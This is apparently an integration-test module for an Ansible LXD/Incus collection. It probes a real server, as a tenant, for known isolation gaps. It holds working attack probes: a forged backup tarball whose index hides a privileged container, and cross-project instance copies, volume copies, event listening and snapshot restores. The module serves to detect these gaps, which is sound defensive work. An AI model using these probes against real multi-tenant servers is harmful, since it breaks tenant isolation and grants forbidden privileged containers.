# Copyright (c) cloudhost.lxd contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The gaps of `_audit/gaps.py`, each tried on a real server with the certificate of a tenant."""

from __future__ import annotations

import io
import json
import subprocess
import tarfile
from typing import Any, Callable

from ansible_collections.cloudhost.lxd.plugins.module_utils._audit.gaps import GAPS, gaps_of
from integration import raw

from .daemon import Daemon
from .tenant import Tenant

BLUE, GREEN = "?project=blue", "?project=green"
FORBIDDEN = {"security.privileged": "true"}
#: What the quota of the tenants asks of each instance that is not made with their profile `default`.
LIMITS = {"limits.cpu": "1", "limits.memory": "64MiB", "limits.processes": "100"}


class Gaps:
    """Blue has a stopped container `own`, and green one that is called `secret`, and a volume of the same name."""

    def __init__(self, daemon: Daemon, blue: Tenant, pool: str) -> None:
        self.daemon, self.blue, self.pool = daemon, blue, pool

    def open(self) -> set[str]:
        """Those that the server does not refuse. Nothing of the attempts is left."""
        ways: dict[str, Callable[[], bool]] = {
            "backup-import": self._imports,
            "creation-in-cluster": lambda: self._somewhere(self._creates),
            "events": self._hears,
            "instance-copy": lambda: self._somewhere(self._duplicates),
            "snapshot-restore": self._restores,
            "volume-copy": self._copies,
        }
        return {name for name, way in ways.items() if way()}

    def _do(self, method: str, path: str, body: Any = None) -> Any:
        """What the operator does."""
        return raw.done(self.daemon.place, method, path, body)

    def _there(self, path: str) -> dict[str, Any] | None:
        found = raw.ask(self.daemon.place, "GET", path)
        return None if found["type"] == "error" else found["metadata"]

    def _imports(self) -> bool:
        product = {"lxd": "LXD", "incus": "Incus"}[self.daemon.kind]
        headers = {"Content-Type": "application/octet-stream", f"X-{product}-name": "attack"}
        self.blue.send("POST", f"/1.0/instances{BLUE}", backup(self.pool), headers)
        return self._made()

    def _creates(self) -> bool:
        self.blue.send("POST", f"/1.0/instances{BLUE}", {**new("attack"), "config": FORBIDDEN})
        return self._made()

    def _duplicates(self) -> bool:
        source = {"type": "copy", "source": "secret", "project": "green"}
        self.blue.send("POST", f"/1.0/instances{BLUE}", {"name": "attack", "source": source})
        copied = bool(self._there(f"/1.0/instances/attack{BLUE}"))
        if copied:
            self._do("DELETE", f"/1.0/instances/attack{BLUE}")
        return copied

    def _somewhere(self, way: Callable[[], bool]) -> bool:
        """Some versions refuse it on one member only. One more instance there has the next one made on the other."""
        if way():
            return True
        self.blue.send("POST", f"/1.0/instances{BLUE}", new("one-more"))
        try:
            return way()
        finally:
            self._do("DELETE", f"/1.0/instances/one-more{BLUE}")

    def _made(self) -> bool:
        """Whether there is a container that the project forbids. What was made ends here: some versions import what the
        index of a backup says.
        """
        made = self._there(f"/1.0/instances/attack{BLUE}")
        if made:
            self._do("DELETE", f"/1.0/instances/attack{BLUE}")
        return bool(made and made["config"].items() >= FORBIDDEN.items())

    def _hears(self) -> bool:
        place = f"/1.0/instances/secret/snapshots{GREEN}"
        heard = self.blue.heard(f"/1.0/events{GREEN}", lambda: self._do("POST", place, {"name": "heard"}), 0.5)
        if heard:  # else it was refused before
            self._do("DELETE", f"/1.0/instances/secret/snapshots/heard{GREEN}")
        return b"secret" in heard

    def _restores(self) -> bool:
        """A snapshot with what is forbidden, as it comes with an instance from another server. Here the operator makes
        it, which takes no other server.
        """
        place, project = f"/1.0/instances/own{BLUE}", self._do("GET", "/1.0/projects/blue")
        own = self._do("GET", place)
        loose = {**project["config"], "restricted.containers.privilege": "allow"}
        self._do("PUT", "/1.0/projects/blue", {**project, "config": loose})
        self._put(place, {**own, "config": {**own["config"], **FORBIDDEN}})
        self._do("POST", f"/1.0/instances/own/snapshots{BLUE}", {"name": "forbidden"})
        self._put(place, own)
        self._do("PUT", "/1.0/projects/blue", project)
        self.blue.send("PUT", place, {"restore": "forbidden"})
        restored = self._do("GET", place)["config"].items() >= FORBIDDEN.items()
        self._put(place, own)
        self._do("DELETE", f"/1.0/instances/own/snapshots/forbidden{BLUE}")
        return restored

    def _put(self, place: str, instance: dict[str, Any]) -> None:
        """Without what the server sets itself, which differs by then."""
        config = {key: value for key, value in instance["config"].items() if not key.startswith("volatile.")}
        now = self._do("GET", place)["config"]
        kept = {key: value for key, value in now.items() if key.startswith("volatile.")}
        self._do("PUT", place, {**instance, "config": {**config, **kept}})

    def _copies(self) -> bool:
        source = {"type": "copy", "name": "secret", "pool": self.pool, "project": "green"}
        wanted = {"name": "attack", "type": "custom", "config": {"size": "16MiB"}, "source": source}
        volumes = f"/1.0/storage-pools/{self.pool}/volumes/custom"
        self.blue.send("POST", f"{volumes}{BLUE}", wanted)
        copied = bool(self._there(f"{volumes}/attack{BLUE}"))
        if copied:
            self._do("DELETE", f"{volumes}/attack{BLUE}")
        return copied


def known(daemon: Daemon) -> set[str]:
    """The gaps that the table says of a server, without those that its package has repaired."""
    found = gaps_of(raw.done(daemon.place, "GET", "/1.0")["environment"])
    return {gap.name for gap in found if not _repaired(daemon, gap.debian.get(daemon.kind, ""))}


def repaired(daemon: Daemon) -> bool:
    """Whether the server is a package of Debian 13 with the repairs of 2026, which show in no version."""
    return any(_repaired(daemon, gap.debian.get(daemon.kind, "")) for gap in GAPS if gap.name == "volume-copy")


def _repaired(daemon: Daemon, since: str) -> bool:
    if not since or daemon.unpacked:
        return False
    package = {"lxd": "lxd", "incus": "incus-base"}[daemon.kind]
    query = ["dpkg-query", "--show", "--showformat=${Version}", package]
    version = subprocess.run(query, capture_output=True, text=True, check=True).stdout
    return subprocess.run(["dpkg", "--compare-versions", version, "ge", since], check=False).returncode == 0


def new(name: str) -> dict[str, Any]:
    """An instance without an image."""
    return {"name": name, "source": {"type": "none"}}


def backup(pool: str) -> bytes:
    """A backup of a privileged container without any file, as its owner can write one: its index says that it is a
    plain one, which is all that some versions look at. JSON is YAML too.
    """
    plain, real = (_content(pool, {**LIMITS, **more}) for more in ({}, FORBIDDEN))
    index = {"name": "attack", "backend": "dir", "pool": pool, "type": "container", "snapshots": [], "config": plain}
    index.update(optimized=False, optimized_header=False)
    files = {"backup/index.yaml": index, "backup/container": None, "backup/container/backup.yaml": real}
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for name, document in files.items():
            member, data = tarfile.TarInfo(name), json.dumps(document).encode()
            member.type = tarfile.REGTYPE if document else tarfile.DIRTYPE
            member.size, member.mode = (len(data), 0o600) if document else (0, 0o711)
            archive.addfile(member, io.BytesIO(data))
    return packed.getvalue()


def _content(pool: str, config: dict[str, str]) -> dict[str, Any]:
    never = "2026-01-01T00:00:00Z"
    devices = {"root": {"type": "disk", "path": "/", "pool": pool, "size": "16MiB"}}
    more = {"ephemeral": False, "stateful": False, "description": "", "created_at": never, "last_used_at": never}
    container = {
        **more,
        "name": "attack",
        "type": "container",
        "architecture": "x86_64",
        "profiles": [],
        "config": config,
        "expanded_config": config,
        "devices": devices,
        "expanded_devices": devices,
    }
    return {
        "container": container,
        "pool": {"name": pool, "driver": "dir", "config": {}},
        "volume": {"name": "attack", "type": "container", "content_type": "filesystem", "config": {}},
    }
